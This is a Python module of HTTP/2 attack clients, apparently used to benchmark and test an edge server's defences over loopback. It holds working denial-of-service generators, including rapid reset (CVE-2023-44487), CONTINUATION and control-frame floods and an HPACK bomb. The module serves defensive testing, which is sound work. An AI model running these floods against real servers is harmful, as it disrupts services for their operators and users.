"""HTTP/2 attack clients, for bench/attack_bench.py and tests/e2e/test_h2_attacks.py (loopback only).

    python bench/h2_attacks.py ATTACK PORT HOST CA_FILE [--parallel P] [--pause W] [--connections N] [--seconds S]
                                [--slow-path PATH] [--big-path PATH]

Runs ATTACK against 127.0.0.1:PORT (TLS SNI and :authority HOST, trusting CA_FILE) on
P connections at a time, each reopened W seconds after the edge closed it, until N
connections finished, S seconds passed or SIGTERM. Each connection writes its attack in batches and
looks for the edge's GOAWAY between them; it stops at the GOAWAY, a closed socket or the
attack's frame cap. Requests name --slow-path (an answer that takes a while) or
--big-path (a large one). Prints one JSON line per finished connection, then a summary.
"""

from __future__ import annotations

import argparse
import json
import signal
import socket
import ssl
import sys
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

import hpack
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    Frame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
FRAME_CAP = 100_000  # attack frames per connection at most (the flood size)
BATCH = 100  # frames per write
DRIP_INTERVAL = 1.0  # seconds between the CONTINUATION frames of a drip
CANCEL = 0x8


@dataclass
class Outcome:
    """How one attacking connection ended."""

    attack: str
    frames: int = 0  # attack frames written before the edge's GOAWAY (or close) was seen
    seconds: float = 0.0
    ended: str = "cap"  # goaway, closed, cap, stopped (by SIGTERM or the time limit) or refused
    error_code: int | None = None
    debug: str = ""


@dataclass(frozen=True)
class Target:
    port: int
    host: str
    context: ssl.SSLContext
    slow_path: str
    big_path: str


class Conversation:
    """One TLS connection speaking raw HTTP/2 frames."""

    def __init__(self, target: Target) -> None:
        raw = socket.create_connection(("127.0.0.1", target.port), timeout=10)
        self.sock = target.context.wrap_socket(raw, server_hostname=target.host)
        self.target = target
        self.host = target.host
        self.encoder = hpack.Encoder()
        self.buffer = b""
        self.goaway: GoAwayFrame | None = None
        self.closed = False

    def request(self, stream_id: int, path: str, end_stream: bool = True, end_headers: bool = True) -> HeadersFrame:
        fields = [(":method", "GET" if end_stream else "POST"), (":scheme", "https"), (":authority", self.host), (":path", path)]
        flags = (["END_STREAM"] if end_stream else []) + (["END_HEADERS"] if end_headers else [])
        return HeadersFrame(stream_id, data=self.encoder.encode(fields), flags=flags)

    def send(self, frames: list[Frame] | bytes) -> None:
        self.sock.settimeout(10)  # `poll` leaves the socket non-blocking
        self.sock.sendall(frames if isinstance(frames, bytes) else b"".join(frame.serialize() for frame in frames))

    def poll(self, timeout: float = 0.0) -> None:
        """Read what arrived (waiting up to `timeout`), looking for a GOAWAY; ack SETTINGS."""
        self.sock.settimeout(timeout)
        try:
            while not self.closed:
                data = self.sock.recv(65536)
                if not data:
                    self.closed = True
                    break
                self.buffer += data
                self._frames()
                self.sock.settimeout(0.0)
        except (ssl.SSLWantReadError, BlockingIOError, socket.timeout, TimeoutError):
            pass
        except OSError:
            self.closed = True

    def _frames(self) -> None:
        while len(self.buffer) >= 9:
            length = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + length:
                return
            kind, flags, stream_id = self.buffer[3], self.buffer[4], int.from_bytes(self.buffer[5:9], "big")
            payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
            if kind == 0x7:
                self.goaway = GoAwayFrame(stream_id)
                self.goaway.parse_body(memoryview(payload))
            elif kind == 0x4 and not flags & 0x1:
                self.send([SettingsFrame(0, flags=["ACK"])])

    @property
    def over(self) -> bool:
        return self.goaway is not None or self.closed


def batches(frames: Iterator[Frame], size: int) -> Iterator[list[Frame]]:
    batch: list[Frame] = []
    for frame in frames:
        batch.append(frame)
        if len(batch) == size:
            yield batch
            batch = []
    if batch:
        yield batch


# Each attack: the frames (setup, then an endless flood), frames per write and seconds
# between writes.


def rapid_reset(conv: Conversation) -> Iterator[Frame]:
    """CVE-2023-44487: a slow request, reset at once, again and again."""
    stream_id = 1
    while True:
        yield conv.request(stream_id, conv.target.slow_path)
        yield RstStreamFrame(stream_id, error_code=CANCEL)
        stream_id += 2


def priority_flood(conv: Conversation) -> Iterator[Frame]:
    """PRIORITY frames on idle streams, never opened."""
    stream_id = 1
    while True:
        yield PriorityFrame(stream_id, depends_on=0, stream_weight=15)
        stream_id = stream_id + 2 if stream_id < 2**31 - 3 else 1


def empty_data_flood(conv: Conversation) -> Iterator[Frame]:
    """CVE-2019-9518: zero-length DATA frames on an open request."""
    yield conv.request(1, conv.target.slow_path, end_stream=False)
    while True:
        yield DataFrame(1, data=b"")


def window_update_flood(conv: Conversation) -> Iterator[Frame]:
    """CVE-2019-9517 family: WINDOW_UPDATE(1) on the connection."""
    while True:
        yield WindowUpdateFrame(0, window_increment=1)


def zero_window_trickle(conv: Conversation) -> Iterator[Frame]:
    """A download the client lets through one byte per WINDOW_UPDATE."""
    yield SettingsFrame(0, settings={SettingsFrame.INITIAL_WINDOW_SIZE: 0})
    yield conv.request(1, conv.target.big_path)
    while True:
        yield WindowUpdateFrame(1, window_increment=1)


def settings_flood(conv: Conversation) -> Iterator[Frame]:
    while True:
        yield SettingsFrame(0)


def ping_flood(conv: Conversation) -> Iterator[Frame]:
    count = 0
    while True:
        yield PingFrame(0, opaque_data=count.to_bytes(8, "big"))
        count += 1


def reset_flood(conv: Conversation) -> Iterator[Frame]:
    """RST_STREAM on streams that were never opened or are long closed."""
    yield conv.request(1, "/")
    while True:
        yield RstStreamFrame(1, error_code=CANCEL)


def continuation_flood(conv: Conversation) -> Iterator[Frame]:
    """A header block that never ends, in CONTINUATION frames of 16,000 bytes."""
    yield conv.request(1, "/attack", end_headers=False)
    while True:
        yield ContinuationFrame(1, data=b"\x00" * 16_000)


def hpack_bomb(conv: Conversation) -> Iterator[Frame]:
    """One 4,000-byte field, then 10,000 one-byte references to it: 40 MB from 14 KB."""
    block = conv.encoder.encode([(":method", "GET"), (":scheme", "https"), (":authority", conv.host), (":path", "/"),
                                 *[("x-bomb", "b" * 4000)] * 10_000])
    yield HeadersFrame(1, data=block[:16_000], flags=["END_STREAM"])
    yield ContinuationFrame(1, data=block[16_000:], flags=["END_HEADERS"])


def continuation_drip(conv: Conversation) -> Iterator[Frame]:
    """A header block kept open by one small CONTINUATION frame every DRIP_INTERVAL."""
    yield conv.request(1, "/attack", end_headers=False)
    while True:
        yield ContinuationFrame(1, data=b"")  # an empty fragment: the block grows by nothing


ATTACKS: dict[str, tuple[Callable[[Conversation], Iterator[Frame]], int, float]] = {
    "rapid-reset": (rapid_reset, BATCH, 0.0),
    "rapid-reset-paced": (rapid_reset, 2, 0.001),  # each pair in a write of its own
    "priority": (priority_flood, BATCH, 0.0),
    "empty-data": (empty_data_flood, BATCH, 0.0),
    "window-update": (window_update_flood, BATCH, 0.0),
    "zero-window": (zero_window_trickle, BATCH, 0.0),
    "settings": (settings_flood, BATCH, 0.0),
    "ping": (ping_flood, BATCH, 0.0),
    "reset": (reset_flood, BATCH, 0.0),
    "continuation-flood": (continuation_flood, 1, 0.0),
    "hpack-bomb": (hpack_bomb, 2, 0.0),
    "continuation-drip": (continuation_drip, 1, DRIP_INTERVAL),
}


def attack_once(name: str, target: Target, stop: threading.Event, opened: Callable[[], None]) -> Outcome:
    """One connection: preface and SETTINGS, then the attack until the edge ends it;
    `opened` is called once the handshake is over (or the connection failed)."""
    flood, size, interval = ATTACKS[name]
    outcome, started = Outcome(name), time.monotonic()
    try:
        conv = Conversation(target)
    except OSError as exc:
        return Outcome(name, ended="refused", debug=repr(exc))
    finally:
        opened()
    with conv.sock:
        try:
            conv.send(PREFACE + SettingsFrame(0).serialize())
            conv.poll(1.0)  # the edge's SETTINGS: it is ready
            for batch in batches(flood(conv), size):
                conv.send(batch)
                outcome.frames += len(batch)
                conv.poll(interval)
                if conv.over or outcome.frames >= FRAME_CAP or stop.is_set():
                    break
            if not conv.over and not stop.is_set():
                conv.poll(5.0)  # the whole flood is written: the edge's answer to it
        except OSError:
            conv.closed = True
    outcome.seconds = time.monotonic() - started
    if conv.goaway is not None:
        outcome.ended, outcome.error_code = "goaway", conv.goaway.error_code
        outcome.debug = bytes(conv.goaway.additional_data).decode("latin-1")
    elif conv.closed:
        outcome.ended = "closed"
    elif stop.is_set():
        outcome.ended = "stopped"
    return outcome


def run(args: argparse.Namespace) -> list[Outcome]:
    context = ssl.create_default_context(cafile=args.ca_file)
    context.set_alpn_protocols(["h2"])
    target = Target(args.port, args.host, context, args.slow_path, args.big_path)
    stop = threading.Event()
    timer = threading.Timer(args.seconds, stop.set)
    timer.daemon = True
    timer.start()
    outcomes: list[Outcome] = []
    lock = threading.Lock()
    started = 0
    first_wave_open = threading.Semaphore(0)
    announced = threading.Event()  # "started" is out: outcomes may follow it

    def worker() -> None:
        nonlocal started
        first = True
        while not stop.is_set():
            with lock:
                if started >= args.connections:
                    return
                started += 1
            outcome = attack_once(args.attack, target, stop, first_wave_open.release if first else lambda: None)
            first = False
            announced.wait()  # a connection the edge cut off at once must not be reported before "started"
            with lock:
                outcomes.append(outcome)
                print(json.dumps(asdict(outcome)), flush=True)
            stop.wait(args.pause)

    signal.signal(signal.SIGTERM, lambda *_: stop.set())
    threads = [threading.Thread(target=worker) for _ in range(args.parallel)]
    for thread in threads:
        thread.start()
    for _ in threads:  # "started" once every first connection is through its handshake:
        first_wave_open.acquire(timeout=10)  # the attack in force, not a handshake burst
    print(json.dumps({"started": True}), flush=True)
    announced.set()
    while any(thread.is_alive() for thread in threads):
        for thread in threads:
            thread.join(0.1)
    return outcomes


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("attack", choices=sorted(ATTACKS))
    parser.add_argument("port", type=int)
    parser.add_argument("host")
    parser.add_argument("ca_file")
    parser.add_argument("--parallel", type=int, default=1, help="connections at a time (default 1)")
    parser.add_argument("--pause", type=float, default=0.0, help="seconds before a worker reconnects (default 0)")
    parser.add_argument("--connections", type=int, default=1000, help="connections in all, at most (default 1000)")
    parser.add_argument("--seconds", type=float, default=30.0, help="run time at most (default 30)")
    parser.add_argument("--slow-path", default="/attack?delay=5", help="a request answered slowly (default: tests/e2e/origin.py's)")
    parser.add_argument("--big-path", default="/download?mb=1", help="a request with a large answer (default: tests/e2e/origin.py's)")
    args = parser.parse_args()
    outcomes = run(args)
    ended = {}
    for outcome in outcomes:
        ended[outcome.ended] = ended.get(outcome.ended, 0) + 1
    frames = [outcome.frames for outcome in outcomes if outcome.ended == "goaway"]
    print(json.dumps({"summary": True, "connections": len(outcomes), "ended": ended, "max_frames_to_goaway": max(frames, default=0)}))


if __name__ == "__main__":
    sys.exit(main())
